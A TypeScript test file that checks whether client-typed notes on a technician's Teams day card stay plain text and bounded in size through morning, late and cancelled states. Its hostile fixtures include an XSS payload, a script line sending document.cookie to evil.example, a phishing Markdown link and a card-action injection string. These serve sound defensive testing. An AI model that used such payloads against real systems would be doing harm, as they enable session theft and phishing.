import { beforeAll, describe, expect, test } from 'vitest';
import { faults } from '../cards/conformance.ts';
import { visitOf, wall } from '../helpers/booked.ts';
import { client } from '../../harness/msp/client.ts';
import { clientHttp } from '../helpers/client-http.ts';
import { MALLORY, malloryWrites } from '../helpers/mallory.ts';
import { smallMsp, type SmallMsp } from '../../harness/msp/small-msp.ts';
import { fillsIn } from '../../harness/msp/trade.ts';

/**
 * What a client notes for the technician at the door, and what the PSA notes of the client, followed from where it was typed
 * to the card of the morning and through that card's day: it stays words, and there are no more of them than one reads.
 */
const CALM = 'Ring twice, please';
const HOSTILE = {
  markup: `"><img src=x onerror=alert(1)></p><h1>Closed</h1> &lt;b&gt; <at>Everyone</at> \${$root.secret} {{DATE(2026-11-23T00:00:00Z, LONG)}}`,
  script: '<script>fetch("https://evil.example/?" + document.cookie)</script> javascript:alert(1)',
  Markdown: '# Closed\r\n[Your new address](https://evil.example/login) ![p](https://evil.example/p.png) **now** `x`',
  'a card of its own': '"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}],"x":[{"text":"',
} as const;
const TEN_KB = 10_240;
/** Foreign texts side by side can look like one Markdown link, or shout; they stand where signs are shown as signs. */
const LOOKS = ['teams/markdown', 'people/shouting'];

type Shown = ReturnType<typeof dayCards>[number];

function dayCards(msp: SmallMsp) {
  return msp.ana.inbox().filter(({ words }) => words.startsWith('Your day'));
}

/** The day of one visit to a client with these words in every note; what Ana's card was in the morning, when late, and at the end. */
async function dayWith(words: string) {
  // Monday, half past five in the morning in London.
  const msp = await smallMsp({ visits: { changeNoticeHours: 0 }, at: Date.UTC(2026, 10, 23, 5, 30) });
  try {
    const ticket = await malloryWrites(msp, words, { notes: true, details: '' });
    const mallory = client(msp, MALLORY);
    const page = await mallory.opensLink();
    const today = page.is === 'choose' ? page.slots.find(({ start }) => wall(start).startsWith('Mon')) : undefined;
    const form = { slot: today?.value ?? '', note: words };
    const typed = await clientHttp(msp).sends(`${mallory.token()}/choose`, form);
    // A note has a length; what is too long is shown again to be cut.
    if (typed.status !== 303) {
      expect(typed.text).toContain('data-page="choose"');
      expect((await visitOf(msp, ticket)).state).toBe('offered');
      const short = { ...form, note: words.slice(0, 900) };
      expect((await clientHttp(msp).sends(`${mallory.token()}/choose`, short)).status).toBe(303);
    }
    await msp.minutes(2);
    const note = (await msp.store.get('visitTexts', `${ticket}.v1`))?.data.note;

    await msp.clock.advance(Date.UTC(2026, 10, 23, 7, 3) - msp.clock.now());
    const morning = dayCards(msp);
    await fillsIn(msp, msp.ana, morning[0]!, 'Running late', { minutes: '20' });
    await msp.minutes(2);
    const late = dayCards(msp);
    await mallory.cancels(words.slice(0, 400));
    await msp.minutes(3);
    return { typed: typed.status, note, morning, late, end: dayCards(msp) };
  } finally {
    await msp.close();
  }
}

/** Everything of a card but its words: what a program that draws it acts on. */
function shapeOf({ card }: Shown): unknown {
  const bare = (value: unknown, key = ''): unknown => {
    if (Array.isArray(value)) return value.map((one) => bare(one));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, bare(one, name)]));
    if (key === 'url' && typeof value === 'string') return new URL(value).hostname;
    return ['text', 'title', 'fallbackText', 'version', 'ticketId'].includes(key) ? '' : value;
  };
  return bare(card);
}

let calm: Awaited<ReturnType<typeof dayWith>>;
beforeAll(async () => {
  calm = await dayWith(CALM);
}, 90_000);

test('the morning’s card shows harmless notes from the client and the PSA and follows the day to its end', () => {
  expect(calm.morning).toHaveLength(1);
  expect(calm.note).toBe(CALM);
  expect(calm.morning[0]!.words.split(CALM).length - 1).toBeGreaterThan(4);
  expect(calm.late[0]!.words).toContain('20 min late');
  expect(calm.end[0]!.words).toContain('No visits that day');
});

describe.each(Object.entries(HOSTILE))('%s in every note', (_, words) => {
  test.each([
    ['short', words],
    ['of 10 kB', words.padEnd(TEN_KB, ` ${words}`)],
  ])(
    '%s stays plain text on the card in the morning, when late and when cancelled',
    { timeout: 90_000 },
    async (_size, noted) => {
      const told = await dayWith(noted);
      expect(told.typed).toBe(noted.length > 1_000 ? 200 : 303);
      for (const when of ['morning', 'late', 'end'] as const) {
        const [shown] = told[when];
        expect(told[when], when).toHaveLength(1);
        expect(shapeOf(shown!), when).toEqual(shapeOf(calm[when][0]!));
        const drawn = { card: { ...shown!.card, type: 'AdaptiveCard' as const }, summary: shown!.summary ?? '' };
        expect(faults(drawn, [noted, told.note ?? ''], 'message', LOOKS), when).toEqual([]);
        expect(JSON.stringify(shown!.card).length, when).toBeLessThan(6_000);
      }
      expect(told.late[0]!.words).toContain('20 min late');
    },
  );
});
